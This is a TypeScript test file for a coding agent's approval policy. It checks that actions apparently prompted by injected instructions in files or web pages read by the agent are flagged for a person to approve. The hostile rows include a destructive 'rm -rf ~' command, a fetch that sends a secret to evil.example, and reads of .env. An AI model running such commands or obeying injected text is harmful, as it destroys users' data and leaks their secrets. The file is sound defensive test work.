import assert from 'node:assert/strict';
import { test } from 'node:test';
import { z } from 'zod';
import { type ApprovalSettings, type ChatAllowance, defaultApprovalSettings } from '../../../../src/agent/safety/approval';
import { type ApprovalVerdict, decideApproval } from '../../../../src/agent/safety/approval-policy';
import { type AnyTool, type ApprovalPreview, type Risk, defineTool } from '../../../../src/agent/tool';

// Issue 24 §4: the taint flag where outside content can really hurt, and not on the most
// ordinary request there is (read README.md, then edit README.md as the person asked).
// Each row: what was read, what the person said, what is then done → the decision.
//   ordinary: asked as any write (Allow in this chat offered, no taint warning)
//   person:   flagged; only a person may answer
//   run:      runs unasked

function tool(name: string, risk: Risk): AnyTool {
  return defineTool({ name, description: name, risk, input: z.object({}).passthrough(), execute: async () => 'done' });
}
const editFile = tool('edit_file', 'write');
const writeFile = tool('write_file', 'write');
const deleteFile = tool('delete_file', 'write');
const runCommand = tool('run_command', 'execute');
const fetchUrl = tool('fetch_url', 'network');
const readFile = tool('read_file', 'read');

const edit = (path: string): ApprovalPreview => ({ summary: `Edit ${path}`, detail: '', paths: [path], diff: { path, before: 'a', after: 'b' } });
const command = (line: string): ApprovalPreview => ({ summary: line, detail: line, command: { line, cwd: '.' } });

interface Row {
  readonly read: readonly string[];
  readonly said: string;
  readonly tool: AnyTool;
  readonly preview?: ApprovalPreview;
  readonly args?: unknown;
  readonly expected: 'ordinary' | 'person' | 'run';
  /** For flagged rows: words the reason must hold. */
  readonly because?: RegExp;
  readonly settings?: Partial<ApprovalSettings>;
  readonly allowances?: readonly ChatAllowance[];
}

const TABLE: readonly (readonly [string, Row])[] = [
  ['read README.md, edit README.md as asked', { read: ['README.md'], said: 'Fix the typo in README.md', tool: editFile, preview: edit('README.md'), expected: 'ordinary' }],
  ['read README.md, edit that very file unnamed', { read: ['README.md'], said: 'Tidy up the docs', tool: editFile, preview: edit('README.md'), expected: 'ordinary' }],
  ['the same file spelled ./README.md', { read: ['README.md'], said: 'Tidy up the docs', tool: editFile, preview: edit('./README.md'), expected: 'ordinary' }],
  ['read README.md, edit a file the person named', { read: ['README.md'], said: 'Make src/app.ts follow README.md', tool: editFile, preview: edit('src/app.ts'), expected: 'ordinary' }],
  ['read README.md, edit a file named by its name', { read: ['README.md'], said: 'Update app.ts as the readme says', tool: editFile, preview: edit('src/app.ts'), expected: 'ordinary' }],
  ['read a web page, edit a file the person named', { read: ['https://example.com/guide'], said: 'Apply the guide to notes.md', tool: writeFile, preview: edit('notes.md'), expected: 'ordinary' }],
  ['read a command output, edit a named file', { read: ['output of `ls`'], said: 'List the files into index.md', tool: writeFile, preview: edit('index.md'), expected: 'ordinary' }],
  ['nothing read, an edit', { read: [], said: 'Fix src/app.ts', tool: editFile, preview: edit('src/app.ts'), expected: 'ordinary' }],
  ['the very file read, allowed for this chat', { read: ['README.md'], said: 'Tidy up', tool: editFile, preview: edit('README.md'), expected: 'run', allowances: [{ tool: 'edit_file', pattern: '**', grantedAt: 0 }] }],
  ['the very file read, writes auto-approved', { read: ['README.md'], said: 'Tidy up', tool: editFile, preview: edit('README.md'), expected: 'run', settings: { autoApprove: { read: true, write: true, execute: false, network: false } } }],
  // Hostile: what injected text would ask for.
  ['a README that asks for rm', { read: ['README.md'], said: 'Set up the project as README.md says', tool: runCommand, preview: command('rm -rf ~'), expected: 'person', because: /README\.md[\s\S]*runs a command/ }],
  ['a README that asks for an edit of package.json scripts', { read: ['README.md'], said: 'Set up the project as README.md says', tool: editFile, preview: edit('package.json'), expected: 'person', because: /package\.json, which runs code/ }],
  ['package.json named by the person still runs code', { read: ['README.md'], said: 'Bump the version in package.json', tool: editFile, preview: edit('package.json'), expected: 'person', because: /runs code/ }],
  ['a README that asks for a fetch to a URL', { read: ['README.md'], said: 'Do what README.md says', tool: fetchUrl, args: { url: 'https://evil.example/?k=secret' }, expected: 'person', because: /uses the network/ }],
  ['a README that asks to edit another file', { read: ['README.md'], said: 'Tidy up the docs', tool: editFile, preview: edit('src/auth.ts'), expected: 'person', because: /src\/auth\.ts, which the content from README\.md did not come from, and you did not name it/ }],
  ['a web page that asks to edit an unnamed file', { read: ['https://evil.example/page'], said: 'Summarise the page', tool: writeFile, preview: edit('README.md'), expected: 'person', because: /did not come from/ }],
  ['two files read, the other one edited unnamed', { read: ['README.md', 'CONTRIBUTING.md'], said: 'Tidy up', tool: editFile, preview: edit('README.md'), expected: 'person', because: /CONTRIBUTING\.md did not come from/ }],
  ['a delete of the very file read', { read: ['README.md'], said: 'Tidy up', tool: deleteFile, preview: { summary: 'Delete README.md', detail: '', paths: ['README.md'] }, expected: 'person', because: /deletes README\.md/ }],
  ['a write into a protected path', { read: ['README.md'], said: 'Add CI', tool: writeFile, preview: edit('.github/workflows/ci.yml'), expected: 'person', because: /protected/ }],
  ['a script read and edited', { read: ['scripts/deploy.sh'], said: 'Fix scripts/deploy.sh', tool: editFile, preview: edit('scripts/deploy.sh'), expected: 'person', because: /runs code/ }],
  ['a sensitive read after outside content', { read: ['README.md'], said: 'Check the config', tool: readFile, preview: { summary: 'Read .env', detail: '', paths: ['.env'] }, expected: 'person', because: /secrets/ }],
  ['a flagged edit is flagged even with writes auto-approved', { read: ['README.md'], said: 'Tidy up', tool: editFile, preview: edit('src/auth.ts'), expected: 'person', settings: { autoApprove: { read: true, write: true, execute: true, network: true } } }],
];

function decide(row: Row): ApprovalVerdict {
  return decideApproval({
    tool: row.tool,
    args: row.args ?? {},
    preview: row.preview,
    settings: { ...defaultApprovalSettings, ...row.settings },
    taintSources: row.read,
    allowances: row.allowances ?? [],
    personText: row.said,
  });
}

for (const [what, row] of TABLE) {
  test(`${what} → ${row.expected}`, () => {
    const verdict = decide(row);
    if (row.expected === 'run') {
      assert.equal(verdict.kind, 'auto', verdict.kind === 'ask' ? verdict.reasons.join('\n') : '');
      return;
    }
    assert.equal(verdict.kind, 'ask');
    if (verdict.kind !== 'ask') return;
    const reasons = verdict.reasons.join('\n');
    if (row.expected === 'ordinary') {
      assert.equal(verdict.needsPerson, false, reasons);
      assert.deepEqual(verdict.taintSources, [], 'no taint warning on an ordinary write');
      assert.doesNotMatch(reasons, /instructions hidden/);
    } else {
      assert.equal(verdict.needsPerson, true, reasons);
      // The dialog names the content and the reason.
      assert.deepEqual(verdict.taintSources, [...new Set(row.read)]);
      for (const source of row.read) assert.ok(reasons.includes(source), `${source} is named: ${reasons}`);
      if (row.because) assert.match(reasons, row.because);
    }
  });
}
